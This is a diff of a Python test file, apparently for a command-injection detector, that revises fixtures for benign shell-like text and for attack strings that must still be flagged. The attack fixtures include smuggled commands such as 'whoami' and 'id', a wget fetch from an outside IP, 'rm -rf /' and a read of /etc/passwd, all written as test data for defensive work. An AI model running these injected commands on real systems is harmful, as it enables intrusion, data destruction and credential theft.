@@ -64,21 +64,22 @@ BENIGN: dict[str, tuple[str, Context]] = {
     "tutorial_redirect": ("run echo ok > /var/www/html/health.txt and reload the server", BODY),
     "numbered_step": ("2python scripts are supported", BODY),
     "quoted_word": ("'uname' is a command", BODY),
-    # shell the author shows: fenced, a console transcript, a wrapped sentence
-    "fenced_script": (
-        'My deploy helper:\n\n```\nfunction up(){\n  echo "${bold}go${reset}"\n  rm -rf build\n}\n```\n',
-        BODY,
-    ),
-    "fenced_tilde_script": ("Try\r\n~~~\r\ncd repo; cat setup.cfg\r\n~~~\r\nthanks", BODY),
+    # weak tools after a separator inside shown shell (the older snippet rules pass these)
+    "tilde_fence_script": ("Try\r\n~~~\r\ncd repo; cat setup.cfg\r\n~~~\r\nthanks", BODY),
     "console_transcript": ("$ python -m venv env && env/bin/pip install tox; rm -rf env\r\n\r\nfails", BODY),
+    # a sentence wrapped onto a line that opens with a capitalised word
     "wrapped_sentence": ("That option exists only on\r\nPython 3 and so it is fine for us", BODY),
     "wrapped_sentence_type": ("You can set the value\nType the name of the host in the box", BODY),
 }
 
 STILL_ATTACKS: dict[str, tuple[str, Context]] = {
-    # what the exemptions for shown shell (fence, prompt, sentence) must not let through
+    # what the wrapped-sentence pass must not let through
     "fence_with_strong_tool": ("```\nx;whoami\n```", BODY),
     "prompt_line_strong_tool": ("$ ls; wget http://203.0.113.9/x", BODY),
+    # a fence or a $ prompt gets no pass: a shell runs what follows them, and an attacker can add either
+    "prompt_then_weak_tool": ("$ q;id", BODY),
+    "prompt_then_root_removal": ("$ ls; rm -rf /", BODY),
+    "fence_then_separator": ("```\n;id\n```", BODY),
     "lowercase_line_after_break": ("note\npython -c 'import os'", BODY),
     "unclosed_fence_weak_tool": ("```\n;cat /etc/passwd", BODY),
 }
